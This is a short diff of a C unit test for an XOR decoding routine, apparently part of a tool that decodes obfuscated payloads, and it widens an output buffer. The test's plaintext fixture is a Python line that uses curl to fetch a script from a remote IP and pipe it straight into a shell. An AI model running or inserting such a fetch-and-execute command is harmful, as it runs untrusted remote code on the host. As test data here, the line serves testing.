@@ -197,7 +197,7 @@ START_TEST(decoding)
 	static const char pt[] =
 	    "import os;os.system(\"curl -s http://203.0.113.7/x | sh\")";
 	size_t n = strlen(pt);
-	unsigned char ct[128], out[128];
+	unsigned char ct[128], out[256];
 	struct xor_key keys[3], got;
 
 	memset(keys, 0, sizeof(keys));
